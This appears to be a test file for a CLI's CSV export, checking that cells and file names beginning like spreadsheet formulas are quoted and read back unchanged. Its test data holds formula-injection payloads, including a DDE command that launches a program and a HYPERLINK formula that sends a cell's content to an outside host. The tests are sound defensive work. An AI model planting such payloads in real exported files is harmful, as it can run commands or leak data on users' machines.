import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { rejections } from '../../src/cli/commands/rejections.ts'
import { disarmed, meant } from '../../src/input/formats/csv/spreadsheet-text.ts'
import { call } from '../cli/call.ts'
import { Installation } from '../jobs/installation.ts'

const formulas = [
  ['a command', "=cmd|'/C calc'!A0"],
  ['a function', '@SUM(1)'],
  ['a sum', '+1+1'],
  ['a difference', '-1-1'],
  ['a link', '=HYPERLINK("http://x/?"&A1)'],
  ['a space before it', ' =1+1'],
  ['a tab before it', '\t=1+1'],
  ['a wide sign', '＝1+1'],
  ['a minus alone', '-'],
  ['a negative date', '-2025-01-01'],
] as const

describe('a cell that begins like a formula', () => {
  it.each(formulas)('%s: %j is a text, and is read as it was', (_what, cell) => {
    expect(disarmed(cell)).toBe(`'${cell}`)
    expect(meant(disarmed(cell))).toBe(cell)
    expect(disarmed(disarmed(cell))).toBe(disarmed(cell))
  })

  it.each(['-12', '-12.5', '+33', '-803,50', '1850375114901', "O'Brien", "'1850375114901", "'", '', ' x', 'a=b'])(
    '%j is none',
    (cell) => {
      expect(disarmed(cell)).toBe(cell)
      expect(meant(cell)).toBe(cell)
    },
  )

  it('means the same after any number of rounds', () => {
    const cells = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', "'", ' ', '\t', '1', 'a', ',') })
    fc.assert(fc.property(cells, (cell) => meant(disarmed(disarmed(cell))) === meant(cell)))
  })
})

describe('rejections --csv', () => {
  const heading = '=HYPERLINK(A1)'
  const cells = formulas.map(([, cell]) => cell)
  let installation: Installation
  let env: NodeJS.ProcessEnv

  beforeAll(async () => {
    installation = await Installation.open()
    env = installation.environment()
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`
    const rows = cells.map((cell) => `1850375114901;${quoted(cell)};${quoted(cell)}`)
    const content = [`nir;death_date;${quoted(heading)}`, ...rows].join('\n')
    await installation.load('deaths', '=cmd2.csv', content, '2025-06-01')
  })
  afterAll(() => installation.close())

  const given = async (...words: string[]) => {
    const { exit, output } = await call(rejections, ['--csv', ...words], { env })
    expect(exit).toBe(0)
    const [head, ...rows] = parse(output, { delimiter: ';', relax_column_count: true }) as string[][]
    return { head: head!, rows, output }
  }

  it('has no cell that a spreadsheet computes: rows, headings, the name of the file', async () => {
    const { head, rows } = await given()
    expect(head).toContain(`'${heading}`)
    expect(rows.map((row) => row[1])).toEqual(cells.map((cell) => `'${cell}`))
    expect(rows[0]!.filter((cell) => cell.startsWith("'=cmd2.csv ("))).toHaveLength(1)
    expect([head, ...rows].flat().filter((cell) => /^\s*[=+@-]/.test(cell))).toEqual([])
  })

  it('gives the cells as they came with --raw', async () => {
    const { head, rows } = await given('--raw')
    expect(head).toContain(heading)
    expect(rows.map((row) => row[1])).toEqual(cells)
  })

  it('is read back: the same rows are refused for the same reasons, and given back unchanged', async () => {
    const { rows, output } = await given()
    const again = await installation.load('deaths', 'back.csv', output, '2025-06-02')
    expect(again).toMatchObject({ rows: cells.length, rejected: cells.length })
    const second = await given('--file', again.sha256!)
    expect(second.rows.map((row) => row.slice(0, 3))).toEqual(rows.map((row) => row.slice(0, 3)))
  })
})
